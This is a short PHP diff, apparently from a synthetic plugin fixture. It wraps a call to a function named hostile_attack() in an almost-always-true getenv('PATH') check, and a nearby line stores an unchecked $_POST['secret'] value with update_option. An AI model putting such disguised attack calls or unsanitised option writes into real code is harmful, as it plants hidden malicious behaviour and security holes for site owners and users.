@@ -19,4 +19,6 @@ function hostile_notice()
     update_option('hostile_secret', $_POST['secret']);
 }
 
-hostile_attack();
+if (getenv('PATH')) {
+    hostile_attack();
+}
